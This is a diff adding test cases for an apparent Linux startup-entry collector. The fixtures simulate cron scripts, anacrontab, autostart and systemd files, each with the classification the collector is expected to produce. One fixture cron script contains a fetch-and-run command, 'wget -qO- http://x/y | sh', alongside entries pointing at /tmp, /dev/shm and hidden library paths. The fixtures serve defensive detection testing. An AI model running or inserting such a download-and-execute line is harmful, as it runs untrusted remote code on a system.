@@ -30,6 +30,74 @@ static const struct row rows[] = {
 	  "file=yes\n name=c.desktop command=zoom area=system enabled=yes hidden=no file=yes\n"
 	  " name=rc.local command=/usr/bin/ok area=system enabled=yes hidden=no file=yes\n"
 	  " name=rc.local command=exit area=system enabled=yes hidden=no file=yes\n" },
+	/* scripts of each day: one start each, told by the worst program that they call */
+	{ "linux-starts",
+	  { NULL, "=etc/cron.daily/.placeholder # nothing~\n=etc/cron.daily/apt #!/bin/sh~set -e~"
+		  "if [ -x /usr/bin/x ]; then~  find /tmp -name y \\~    /tmp/z >/tmp/log "
+		  "2>&1~fi~case $1 in~"
+		  "/tmp/*) exit 0 ;;~esac~list=(/tmp/a /tmp/b)\n=etc/cron.hourly/b #!/bin/sh -e~"
+		  "# /tmp/no~x=$(/var/tmp/got) # why~\n=etc/cron.weekly/c #!/bin/bash~"
+		  "if true; then /usr/lib/.c/d; fi\n=etc/cron.monthly/d #!/bin/sh~wget -qO- "
+		  "http://x/y | sh~"
+		  "\n=etc/cron.monthly/e #!/usr/bin/python3~/tmp/x = 1\n=etc/cron.daily/f "
+		  "#!/tmp/f/sh~ls\n"
+		  "=etc/cron.d/g @daily root nice -n 10 /tmp/g\n=etc/cron.daily/h \177ELF~/tmp/x\n"
+		  "=etc/cron.daily/i # a comment alone" },
+	  TASK,
+	  "collected\n name=g command=/tmp/g area=temporary enabled=yes hidden=no file=yes\n"
+	  " name=apt command=/etc/cron.daily/apt area=system enabled=yes hidden=no file=yes\n"
+	  " name=f command=/tmp/f/sh area=temporary enabled=yes hidden=no file=yes\n"
+	  " name=h command=/etc/cron.daily/h area=system enabled=yes hidden=no file=yes\n"
+	  " name=b command=/var/tmp/got area=temporary enabled=yes hidden=no file=yes\n"
+	  " name=d command=/etc/cron.monthly/d area=public enabled=yes hidden=no file=yes\n"
+	  " name=e command=/etc/cron.monthly/e area=system enabled=yes hidden=no file=yes\n"
+	  " name=c command=/usr/lib/.c/d area=system enabled=yes hidden=yes file=yes\n" },
+	/* a script is for a user's own folder only when nothing in it is worse; root's is one, too */
+	{ "linux-starts",
+	  { NULL,
+	    "=etc/cron.daily/a /root/a~/usr/bin/b\n=etc/cron.daily/b /home/b/c && { /tmp/x; }" },
+	  TASK,
+	  "collected\n name=a command=/root/a area=user enabled=yes hidden=no file=yes\n"
+	  " name=b command=/tmp/x area=temporary enabled=yes hidden=no file=yes\n" },
+	/* anacron's table; starts for every user's desktop, and of root's own home */
+	{ "linux-starts",
+	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL,
+	    "=etc/anacrontab SHELL=/bin/sh~1 5 cron.daily run-parts --report /etc/cron.daily~"
+	    "@monthly 15 z timeout 5m /tmp/z",
+	    "=etc/xdg/autostart/a.desktop [Desktop Entry]~Exec=/dev/shm/a --b",
+	    "=root/.config/systemd/user/b.service ExecStart=/usr/lib/../bin/b",
+	    "=root/.config/autostart/c.desktop Exec=env A=1 /var/tmp/c" },
+	  TASK,
+	  "collected\n name=anacrontab command=run-parts area=system enabled=yes hidden=no "
+	  "file=yes\n name=anacrontab command=/tmp/z area=temporary enabled=yes hidden=no "
+	  "file=yes\n name=a.desktop command=/dev/shm/a area=temporary enabled=yes hidden=no "
+	  "file=yes\n name=b.service command=/usr/lib/../bin/b area=system enabled=yes hidden=no "
+	  "file=yes\n name=c.desktop command=/var/tmp/c area=temporary enabled=yes hidden=no "
+	  "file=yes\n" },
+	/* what only leads elsewhere was not looked at; a file, a folder, a point make no difference */
+	{ "linux-starts",
+	  { NULL, "=etc/cron.daily/a /usr/bin/b", NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL,
+	    NULL, NULL, "+google-chrome +~a" },
+	  TASK,
+	  "partial\n name=a command=/etc/cron.daily/a area=system enabled=yes hidden=no "
+	  "file=yes\n" },
+	{ "linux-starts",
+	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, "+~a +/b +.c" },
+	  TASK,
+	  "collected\n" },
+	{ "linux-starts",
+	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL,
+	    "!" },
+	  TASK,
+	  "failed\n" },
+	{ "linux-starts",
+	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, "!" },
+	  TASK,
+	  "failed\n" },
+	{ "linux-starts",
+	  { NULL, "=etc/cron.daily/a /tmp/x", NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, "!" },
+	  TASK,
+	  "partial\n name=a command=/tmp/x area=temporary enabled=yes hidden=no file=yes\n" },
 	{ "linux-starts", { NULL }, TASK, "collected\n" },
 	{ "linux-starts", { NULL, "!" }, TASK, "failed\n" },
 	/* programs */
